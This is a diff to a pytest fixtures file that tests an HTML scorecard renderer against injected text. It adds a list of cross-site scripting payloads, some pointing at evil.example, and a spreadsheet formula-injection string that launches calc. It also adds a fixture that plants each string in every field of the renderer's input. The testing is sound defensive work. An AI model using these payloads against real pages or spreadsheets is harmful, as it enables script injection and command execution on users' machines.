@@ -1,6 +1,8 @@
 """A scorecard that looks like a real one: every tabular score, four groups, twelve columns."""
 
 import math
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
 from typing import Any
 
 import pytest
@@ -84,7 +86,7 @@ def _scores() -> list[dict[str, Any]]:
                 "high": moved + wide if half else None,
                 "better": better,
                 "n": (612, 61, 284, 328)[j],
-                "baseline": baseline,
+                "baseline": dict(baseline),
             }
             if group == "outliers" and name.startswith(("r2", "s2r")):
                 fields = {"reason": "61 rows hold fewer than 10 of one class."}
@@ -222,3 +224,133 @@ def make_history(n_steps: int = 400) -> list[dict[str, float]]:
         }
         for step in range(n_steps)
     ]
+
+
+PAYLOADS = (
+    "<script>document.title='owned'</script>",
+    "</title><script>document.title='owned'</script>",
+    "</style><script>document.title='owned'</script>",
+    "<img src=x onerror=\"document.title='owned'\">",
+    "<svg onload=\"document.title='owned'\">",
+    "<svg><script>document.title='owned'</script></svg>",
+    "\"><script>document.title='owned'</script>",
+    "' onmouseover='document.title=1",
+    '" autofocus onfocus="document.title=1" x="',
+    "</text></svg><iframe srcdoc=\"<script>parent.document.title='owned'</script>\">",
+    "</desc><foreignObject><body onload=\"document.title='owned'\">",
+    "<a href=\"javascript:document.title='owned'\">click</a>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    '<meta http-equiv=refresh content="0;url=https://evil.example">',
+    "<base href=https://evil.example/>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<!-- <script>document.title='owned'</script>",
+    "<![CDATA[<script>document.title='owned'</script>]]>",
+    "{{ 7 * 7 }}{% for x in y %}",
+    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "<form action=https://evil.example><button autofocus>send</button></form>",
+)
+AWKWARD = (
+    "x" * 300,
+    "\U0001f469\u200d\u2695\ufe0f \U0001f1e9\U0001f1ea",
+    "\u202eegnaro\u202c and \u05d0\u05d1\u05d2\u200f",
+    "two\nlines\tand a tab",
+    "null\x00byte and \ud800 half a pair",
+    "",
+    "=cmd|' /C calc'!A0",
+)
+
+
+@dataclass
+class Page(HTMLParser):
+    """What a browser's parser would see: tags, attributes, text, the title."""
+
+    source: str
+    tags: list[str] = field(default_factory=list)
+    attributes: list[tuple[str, str, str]] = field(default_factory=list)
+    pieces: list[str] = field(default_factory=list)
+    _open: list[str] = field(default_factory=list)
+    title: str = ""
+
+    def __post_init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.feed(self.source)
+        self.close()
+
+    @property
+    def text(self) -> str:
+        return "".join(self.pieces)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self._open.append(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+
+    def handle_endtag(self, tag: str) -> None:
+        while self._open and self._open.pop() != tag:
+            pass
+
+    def handle_data(self, data: str) -> None:
+        if self._open[-1:] == ["title"] and "body" not in self.tags:
+            self.title += data
+        elif self._open[-1:] != ["style"]:
+            self.pieces.append(data)
+
+
+def hostile(text: str) -> dict[str, Any]:
+    """Arguments of `render` with one foreign text wherever foreign text can stand."""
+    card = make_scorecard()
+    for each in card["scores"]:
+        each["meaning"] = text
+        each["baseline"][text] = 0.3
+        if each["group"].startswith("sex"):
+            each["group"] = f"{text}={each['group'][-1]}"
+    card["scores"].append(score(text, reason=text, group=text))
+    card["scores"].append(score(text, value=0.4, better=text))
+    card["context"] |= {
+        "target": text,
+        "sensitive": [text],
+        "generator": text,
+        "warnings": [text],
+        "not_tested": [text],
+        text: {text: text},
+    }
+    for marginal in card["figures"]["marginals"]:
+        marginal["column"] = text
+        marginal["labels"] = [text for _ in marginal["labels"]]
+    names = card["figures"]["association"]["columns"]
+    card["figures"]["association"]["columns"] = [text for _ in names]
+    card["figures"]["roc"][0]["name"] = text
+    card["figures"]["rules"][0]["rule"] = text
+    history = [{**line, text: line["reward"]} for line in make_history(20)]
+    return {
+        "scorecard": card,
+        "history": history,
+        "settings": {text: text, "deep": {text: [text]}},
+        "title": text,
+    }
+
+
+def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
+    """Run a test that asks for `payload` or `awkward` once for each of them."""
+    for name, texts in (("payload", PAYLOADS), ("awkward", AWKWARD)):
+        if name in metafunc.fixturenames:
+            metafunc.parametrize(name, texts, ids=range(len(texts)))
+
+
+@pytest.fixture
+def history() -> list[dict[str, float]]:
+    """Lines of a training history."""
+    return make_history()
+
+
+@pytest.fixture
+def read_page() -> type[Page]:
+    """A parser of pages."""
+    return Page
+
+
+@pytest.fixture
+def hostile_arguments() -> Any:
+    """From a foreign text to arguments of `render` that hold it everywhere."""
+    return hostile
